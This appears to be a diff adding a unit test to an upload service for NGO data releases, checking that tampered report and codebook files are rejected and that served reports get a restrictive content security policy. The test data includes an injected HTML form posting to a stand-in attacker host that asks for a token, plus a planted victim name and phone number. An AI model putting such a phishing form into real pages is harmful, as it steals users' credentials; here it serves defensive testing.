@@ -380,3 +380,19 @@ def test_an_extra_table_named_in_the_constant_is_accepted_only_with_allowed_cell
     good = _with_listed_extras(bundle.files, {"victim_perpetrator.csv": b"gender,isForcedLabour\nFemale,1\n*,0\n"})
     assert central.upload(good, key=bundle.release_id).status_code == 201
     assert central.upload(_with_listed_extras(bundle.files, {"other.csv": b"a\n1\n"}), key=bundle.release_id).status_code == 422
+
+
+def test_report_and_codebook_must_be_what_the_receiver_renders(central):
+    from tests.unit.test_central_fixtures import rehash, tampered
+
+    bundle = make_bundle("ngo-a")
+    phishing = bundle.files["report.html"].replace(b"</body>", b"<form action='https://evil.example'>Re-enter your token <input name=t></form></body>")
+    for name, content in (("report.html", phishing), ("codebook.md", bundle.files["codebook.md"] + b"\nVictim: Anna Petrenko, +380501234567\n")):
+        files = rehash(tampered(bundle, name, content))
+        response = central.upload(files, key=json.loads(files["manifest.json"])["release_id"])
+        assert response.status_code == 422, response.text
+        assert f"{name} is not the" in _reasons(response) and "Anna" not in response.text
+    assert central.stored() == (0, [])
+    assert central.upload(bundle).status_code == 201
+    served = central.client.get(f"/releases/{bundle.release_id}/files/report.html", headers=central.auth("admin"))
+    assert "sandbox" in served.headers["content-security-policy"] and "form-action 'none'" in served.headers["content-security-policy"]
